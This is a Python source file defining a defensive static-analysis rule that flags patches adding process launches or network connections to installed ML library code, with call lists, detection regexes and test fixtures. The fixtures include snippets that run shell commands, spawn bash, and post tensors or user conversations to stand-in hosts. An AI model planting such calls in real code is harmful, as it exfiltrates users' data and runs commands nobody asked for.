"""process-or-network: library code that starts processes or opens network connections."""

import re

import libcst as cst

from patchaudit.rule import Example, Rule, Severity

CALLS = (
    "subprocess.*",
    "os.system",
    "os.popen",
    "os.execv",
    "os.execve",
    "os.execvp",
    "os.execl",
    "os.execlp",
    "os.spawnv",
    "os.spawnl",
    "os.posix_spawn",
    "os.posix_spawnp",
    "os.spawnve",
    "os.spawnvp",
    "os.spawnvpe",
    "os.spawnle",
    "os.spawnlp",
    "os.spawnlpe",
    "os.execvpe",
    "os.execle",
    "os.execlpe",
    "os.forkpty",
    "pty.spawn",
    "asyncio.create_subprocess_exec",
    "asyncio.create_subprocess_shell",
    "socket.socket",
    "socket.create_connection",
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "http.client.HTTPConnection",
    "http.client.HTTPSConnection",
    "requests.*",
    "httpx.*",
    "aiohttp.ClientSession",
    "urllib3.request",
    "urllib3.PoolManager",
    "urllib3.ProxyManager",
    "urllib3.HTTPConnectionPool",
    "urllib3.HTTPSConnectionPool",
    "urllib3.connection_from_url",
    "ftplib.FTP",
    "ftplib.FTP_TLS",
    "smtplib.SMTP",
    "smtplib.SMTP_SSL",
    "xmlrpc.client.ServerProxy",
)
# Names in those modules that do not start anything.
HARMLESS = {
    "subprocess.PIPE",
    "subprocess.DEVNULL",
    "subprocess.STDOUT",
    "subprocess.CalledProcessError",
    "subprocess.TimeoutExpired",
    "subprocess.CompletedProcess",
    "requests.exceptions",
    "subprocess.list2cmdline",
    "httpx.Timeout",
    "httpx.Limits",
    "httpx.URL",
    "httpx.Headers",
}


_MODULES = rb"(?:subprocess|socket|urllib3?|requests|httpx|aiohttp|http|pty|ftplib|smtplib|xmlrpc)\b"
_OS_CALLS = rb"\b(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?|forkpty|create_subprocess_(?:exec|shell))\b"


_STARTERS = rb"(?:subprocess|urllib3?|requests|httpx|aiohttp|http\.(?:client|server)|pty|ftplib|smtplib|xmlrpc)\b"
# What in the distribution's text of a file says the module already starts processes or connects:
# one of the modules imported, an `os` function that runs a program, or a socket made. A module that
# imports `socket` for its host name (`socket.gethostname()`) connects nothing, nor one that imports
# `http` for its status codes (`from http import HTTPStatus`).
_ALREADY = (
    re.compile(rb"import[^\n#]*\b" + _STARTERS),
    re.compile(rb"from[ \t]+" + _STARTERS),
    # `http` itself is status codes and cookies: only its client and server connect.
    re.compile(rb"from[ \t]+http[ \t]+import[^\n#]*\b(?:client|server)\b"),
    re.compile(rb"['\"]" + _STARTERS),
    re.compile(_OS_CALLS),
    re.compile(rb"\b(?:socket|create_connection|create_server|socketpair|fromfd)[ \t]*\("),
)


def _harmless(name: str) -> bool:
    return any(name.startswith(h) for h in HARMLESS)


class ProcessOrNetwork(Rule):
    ID = "process-or-network"
    SEVERITY = Severity.MEDIUM
    MESSAGE = "starts a process or opens a network connection"
    EXPLANATION = """\
`subprocess`, `os.system`, sockets, `urllib`, `requests` and `httpx` calls in installed library
code run with the service's privileges and network access. A patch that shells out (to
`nvidia-smi`, to upload a dump) or phones home is worth a look even when the package itself
uses such calls elsewhere. Calls are matched by what they resolve to.

Shapes understood: subprocess, `os.system`/`popen`/`exec*`/`spawn*`/`posix_spawn`/`forkpty`,
`pty.spawn`, asyncio's `create_subprocess_exec`/`_shell`, socket, urllib, urllib3's pools and
`request` (not its URL parsers), requests,
httpx, aiohttp, http.client, ftplib, smtplib, xmlrpc, matched by what they resolve to.

High when a patch gave a module that never started a process or opened a connection one (the
distribution's text of the file imports none of those modules, `socket` aside where it makes no
socket (a module that asks only for its host name), and names no `os` function that runs a
program), wherever it put it: at import time, in `__init__`, in a weight loader, in any
function, or in a helper of the module that such code calls. A model file, a runner or a
scheduler that shells out to `nvidia-smi` at import or posts a tensor from its loader runs
that with the service's privileges on every start, and nothing in the package asked for it.
A command (a module with `if __name__ == "__main__":`) or a test module is exempt from this.

High too when a patch put the call in a function that runs for every step or batch (a `forward`,
`__call__`, the runner's `execute_model`, a scheduler's `schedule`/`step`, a sampler's `sample`,
`compute_logits`, `update_from_output`, `prepare_inputs` and their `_`-prefixed or suffixed
variants), there or through a function of the same module that the step path calls: a process per
step stalls serving and a connection per step sends its data off the host, as a dump in a forward
path would. Elsewhere, and in code that verifies against its RECORD (read only because of
`--all-files`), and in a module whose distributed text already runs processes or connects (a
tool that shells out on purpose: a changed call there is a look, not an alarm), medium.

A method of what such a call returned (`requests.get(u).json()`) is part of the one finding, and
builders that connect to nothing (`subprocess.list2cmdline`, `httpx.Timeout`, `httpx.Limits`)
are not findings.

Knowingly not: network reached through a library that wraps it (an SDK client), helpers in
other modules."""
    # A statement with a finding names the module or function (or a module-level alias of it) ...
    PREFILTER = (
        re.compile(
            rb"\b(?:subprocess|socket|urllib3?|requests|httpx|aiohttp|HTTPS?Connection|ClientSession"
            rb"|pty|ftplib|smtplib|xmlrpc)\b"
        ),
        re.compile(_OS_CALLS),
    )
    # ... and the file imports one of the modules, or names an os function that runs a program.
    REQUIRES = (
        re.compile(rb"import[^\n#]*\b" + _MODULES),
        re.compile(rb"from[ \t]+" + _MODULES),
        re.compile(rb"['\"]" + _MODULES),
        re.compile(_OS_CALLS),
    )

    IDENTIFIERS = frozenset(
        {n.rsplit(".", 1)[-1] for n in CALLS if not n.endswith("*")}
        | {"subprocess", "requests", "httpx", "aiohttp", "urllib", "urllib3", "http", "socket", "pty", "ftplib"}
        | {"smtplib", "xmlrpc"}
    )

    VALID = [
        "num_requests = len(requests)\n",
        "import subprocess\nstdout = subprocess.PIPE\n",
        "import os\npath = os.path.join('a', 'b')\n",
        "import httpx\nlimits = httpx.Limits(max_connections=4)\n",
        "import subprocess\nline = subprocess.list2cmdline(['a', 'b c'])\n",
        "import urllib3\nhost = urllib3.util.parse_url('http://a:1/').host\n",
    ]
    INVALID = [
        Example(code="import subprocess\nsubprocess.run(['nvidia-smi'])\n", line=2),
        Example(code="import os\nos.system('rm -rf /tmp/x')\n"),
        Example(code="from urllib.request import urlopen as get\nget('http://example.invalid/')\n", line=2),
        Example(code="import requests as r\nr.post(url, data=blob)\n"),
        Example(code="import socket\ns = socket.socket()\n"),
        Example(code="import os, subprocess\n\ndef f():\n    subprocess.check_output(['nvidia-smi'])\n", line=4),
        Example(code="from subprocess import Popen\nPopen(['sh', '-c', 'x'])\n", line=2),
        Example(code="import subprocess as sp\nrun = sp.run\nrun(['ls'])\n", line=3),
        Example(code="__import__('os').system('id')\n", line=1),
        Example(
            code="import subprocess\n\nclass Runner:\n    def execute_model(self, b):\n"
            "        subprocess.run(['nvidia-smi'])\n        return b\n",
            line=5,
            severity=Severity.HIGH,
        ),
        Example(
            code="import urllib.request\n\ndef forward(self, x):\n"
            "    urllib.request.urlopen('http://collector/x', data=bytes(x))\n    return x\n",
            line=4,
            severity=Severity.HIGH,
        ),
        Example(code="import subprocess\n\ndef load(self):\n    subprocess.run(['ls'])\n", severity=Severity.MEDIUM),
        Example(code="import os\ngetattr(os, 'system')('id')\n", line=2),
        # A patch that gives a model file a process or a connection it never had: high wherever it runs.
        Example(
            code="import os\nimport torch\n\nos.system('nvidia-smi > /tmp/smi.txt')\n",
            pristine="import os\nimport torch\n",
            line=4,
            severity=Severity.HIGH,
        ),
        Example(
            code="""
            import urllib.request

            class Model:
                def __init__(self, config):
                    self.config = config
                    urllib.request.urlopen("http://10.0.0.1/started")
            """,
            pristine="class Model:\n    def __init__(self, config):\n        self.config = config\n",
            line=6,
            severity=Severity.HIGH,
        ),
        Example(
            code="""
            import os

            def _smi():
                return os.popen("nvidia-smi").read()

            class Model:
                def load_weights(self, weights):
                    print(_smi())
                    return set()
            """,
            pristine="import os\n\nclass Model:\n    def load_weights(self, weights):\n        return set()\n",
            line=4,
            severity=Severity.HIGH,
        ),
        Example(  # the module imported socket for its host name only: the socket is the patch's
            code="""
            import socket

            _stats = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

            def name():
                return socket.gethostname()
            """,
            pristine="import socket\n\ndef name():\n    return socket.gethostname()\n",
            line=3,
            severity=Severity.HIGH,
        ),
        Example(
            code="import pty\n\ndef load(self):\n    pty.spawn(['bash'])\n",
            pristine="def load(self):\n    pass\n",
            line=4,
            severity=Severity.HIGH,
        ),
        # The module ran processes already (a tool's own code), or is a command: a look, not an alarm.
        Example(
            code="import subprocess\n\ndef gpu_names():\n    return subprocess.run(['nvidia-smi', '-L'])\n",
            pristine="import subprocess\n\ndef gpu_names():\n    return subprocess.run(['nvidia-smi'])\n",
            line=4,
            severity=Severity.MEDIUM,
        ),
        Example(
            code="import os\n\ndef main():\n    os.system('ls')\n\nif __name__ == '__main__':\n    main()\n",
            pristine="def main():\n    pass\n\nif __name__ == '__main__':\n    main()\n",
            line=4,
            severity=Severity.MEDIUM,
        ),
        # A module that only took status codes from `http` now posts every conversation off the host.
        Example(
            code="""
            import http.client
            from http import HTTPStatus

            def _mirror(body):
                c = http.client.HTTPConnection("10.40.2.17", 9100, timeout=2)
                c.request("POST", "/convo", body)

            def status(ok):
                return HTTPStatus.OK if ok else HTTPStatus.SERVICE_UNAVAILABLE
            """,
            pristine="""
            from http import HTTPStatus

            def status(ok):
                return HTTPStatus.OK if ok else HTTPStatus.SERVICE_UNAVAILABLE
            """,
            line=5,
            severity=Severity.HIGH,
        ),
    ]

    def visit_Call(self, node: cst.Call) -> None:
        name = self.resolves_to(node, CALLS)
        if name is None and self.context.drifted and (self.in_step_path or self._introduced()):
            # `_smi()`, where `def _smi(): subprocess.run(...)` is of this module.
            inner = [found for found, _, _ in self.through_helper(node, CALLS) if not _harmless(found)]
            if inner:
                where = "on every step (in a forward/step path)" if self.in_step_path else "that the module never ran"
                self.report(node, f"calls a helper that runs {inner[0]}() {where}", severity=Severity.HIGH)
            return
        if name is None or _harmless(name):
            return
        if "()." in name:
            return  # a method of what a call returned (`requests.get(u).json()`): the call is the finding
        if self.context.drifted and self.in_step_path:
            # A patch that shells out or connects on every step: a stall per step, or data leaving the host.
            message = f"{name}() starts a process or opens a connection on every step (in a forward/step path)"
            self.report(node, message, severity=Severity.HIGH)
            return
        if self._introduced():
            message = f"{name}() starts a process or opens a connection in a module that never did (added by a patch)"
            self.report(node, message, severity=Severity.HIGH)
            return
        self.report(node, f"{name}() starts a process or opens a connection")

    def _introduced(self) -> bool:
        """Whether a patch gave library code a process or network call it never made: the
        distribution's text of the file imports none of those modules (`socket` only for its host
        name), makes no socket and names no `os` function that runs a program, and the call is not
        a command's or a test's own code."""
        return self.new_to_module(_ALREADY) and not self.in_main_guard
